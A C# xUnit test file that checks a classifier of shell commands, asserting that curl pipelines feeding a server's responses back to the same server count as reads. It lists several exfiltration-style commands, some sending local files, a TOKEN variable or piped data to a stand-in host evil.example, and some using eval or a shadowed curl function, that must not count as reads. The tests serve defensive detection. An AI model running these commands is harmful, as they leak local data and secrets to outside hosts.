using Firstlook.Effects;

namespace Firstlook.Tests.Effects;

public sealed class SameServerTests
{
    static Effect Of(string command) => Classifier.Whole(command, Language.Shell).Effect;

    [Theory]
    [InlineData("curl -s http://connect:8083/connectors | jq -r '.[]' | while read -r c; do curl -s \"http://connect:8083/connectors/$c/status\"; done")]
    [InlineData("curl -s $H/connectors | jq -r '.[]' | while read -r c; do curl -s \"$H/connectors/$c/status\"; done")]
    [InlineData("H=http://a:1; curl -s $H/connectors | jq -r '.[]' | while read -r c; do curl -s \"$H/connectors/$c/status\"; done")]
    [InlineData("for c in $(curl -s http://a/x | jq -r '.[]'); do curl -s \"http://a/$c/y\"; done")]
    [InlineData("curl -s http://a/x | jq -r '.[]' | sort -u | head -n 5 | xargs -I{} curl -s http://a/{}")]
    public void What_a_server_answers_may_go_back_to_it(string command) => Assert.Equal(Effect.Read, Of(command));

    [Theory]
    [InlineData("curl -s http://a:1/x | jq -r '.[]' | while read -r c; do curl -s \"http://a:2/$c\"; done")]
    [InlineData("curl -s http://a/x | jq -r '.[]' | while read -r c; do curl -s \"http://evil.example/$c\"; done")]
    [InlineData("curl -s http://a/x | jq -r '.[]' | while read -r c; do curl -s \"http://a$c/\"; done")]
    [InlineData("curl -s http://a/x | jq -r '.[]' | while read -r c; do curl -s \"http://a@$c/\"; done")]
    [InlineData("curl -sL http://a/x | jq -r '.[]' | while read -r c; do curl -s \"http://a/$c\"; done")]
    [InlineData("curl -s http://a/x | jq -r '.[]' | while read -r c; do curl -sL \"http://a/$c\"; done")]
    [InlineData("curl -s http://a/x | jq -r 'env.TOKEN' | while read -r c; do curl -s \"http://a/$c\"; done")]
    [InlineData("curl -s http://a/x | jq -r --rawfile f /data/x '.[]+$f' | while read -r c; do curl -s \"http://a/$c\"; done")]
    [InlineData("curl -s http://a/x | cat - /data/x | while read -r c; do curl -s \"http://a/$c\"; done")]
    [InlineData("curl -s http://a/x | grep -h . - /data/x | while read -r c; do curl -s \"http://a/$c\"; done")]
    [InlineData("curl -s http://a/x | while read -r c; do c=$(cat /data/x); curl -s \"http://a/$c\"; done")]
    [InlineData("curl -s http://a/x | while read -r c; do curl -s \"http://a/$c\"; read -r c < /data/x; done")]
    [InlineData("curl -s http://a/x | while read -r c; do curl -s \"http://a/$c/restart\"; done")]
    [InlineData("curl -s $H/x | while read -r c; do H=http://evil.example; curl -s \"$H/$c\"; done")]
    [InlineData("curl -s $H/x | while read -r c; do eval H=http://evil.example; curl -s \"$H/$c\"; done")]
    [InlineData("H=http://a:1; curl -s $H/x | while read -r c; do eval H=http://evil.example; curl -s \"$H/$c\"; done")]
    [InlineData("curl -s http://a/x file:///data/x | while read -r c; do curl -s \"http://a/$c\"; done")]
    [InlineData("for c in $(curl -s http://a/x; cat /data/x); do curl -s \"http://a/$c\"; done")]
    [InlineData("for c in $(curl -s http://a/x) $(cat /data/x); do curl -s \"http://a/$c\"; done")]
    [InlineData("curl -s http://a/x | xargs -I{} curl -s http://b/{}")]
    [InlineData("curl -s http://a/x | xargs -I{} curl -s http://a/{} http://b/{}")]
    [InlineData("curl -s http://a/x | xargs -a /data/x -I{} curl -s http://a/{}")]
    [InlineData("curl(){ cat /data/x; }; curl -s http://a/x | while read -r c; do command curl -s \"http://a/$c\"; done")]
    public void Nothing_else_goes_with_it_and_no_other_server_gets_it(string command) => Assert.NotEqual(Effect.Read, Of(command));
}
